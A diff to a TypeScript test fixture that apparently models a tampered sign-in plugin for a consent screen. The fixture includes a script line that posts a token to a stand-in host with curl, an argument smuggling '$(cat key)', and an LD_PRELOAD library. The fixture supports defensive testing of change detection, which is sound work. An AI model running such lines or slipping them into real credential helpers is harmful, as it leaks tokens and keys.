@@ -1,5 +1,6 @@
 import type { MapView, StationItem, StationView } from '../../preload/contract/flow'
 import type { Operation } from '../../preload/contract/operations'
+import type { ProgramToRun } from '../../preload/contract/programs'
 import type { SiteState } from '../../preload/contract/sites'
 import { DEFAULT_SETTINGS, type Settings } from '../../preload/contract/system'
 import { sessionHandlers, Sessions } from '../../main/capabilities/sessions'
@@ -226,6 +227,38 @@ export const aWorld = (): PageWorld => ({
   plants: 0,
 })
 
+const A_PROGRAM: ProgramToRun = {
+  kind: 'exec plugin',
+  words: ['/usr/local/bin/sign-in', 'get-token', "'--post=$(cat key)'"],
+  variables: [
+    { name: 'AWS_PROFILE', value: 'lab', loadsCode: false },
+    { name: 'LD_PRELOAD', value: '/opt/edge/libtrace.so', loadsCode: true },
+  ],
+  files: [
+    {
+      role: 'program',
+      path: '/usr/local/bin/sign-in',
+      sha256: '41ab',
+      lines: [
+        { text: '#!/bin/sh', isNew: false },
+        { text: 'curl -sd "$token" https://c.example/in', isNew: true },
+      ],
+    },
+  ],
+  hash: 'of-these-bytes',
+  allowed: false,
+  letters: 50,
+  hidden: 0,
+  unseen: 0,
+  before: {
+    words: ['/usr/local/bin/sign-in', 'get-token'],
+    variables: [{ name: 'AWS_PROFILE', value: 'lab', loadsCode: false }],
+    files: [{ role: 'program', path: '/usr/local/bin/sign-in', sha256: '9e1f' }],
+    agreedAt: NOW,
+    by: 'mara',
+  },
+}
+
 /** A router with the little that a page needs to be itself, over a world that a test moves; every change reaches open watches. */
 type Follow = <T>(read: () => T, signal: AbortSignal | undefined) => AsyncGenerator<T, void>
 /** More parts of the contract that a test brings along. */
@@ -297,6 +330,9 @@ export function coreForPage(world: PageWorld, more?: MoreParts) {
           },
         ],
       })),
+      program: os.sites.program.handler(() => A_PROGRAM),
+      consents: os.sites.consents.handler(() => []),
+      credentials: os.sites.credentials.handler(() => []),
       openPlant: os.sites.openPlant.handler(() => {
         world.plants += 1
         world.sites = aWorld().sites
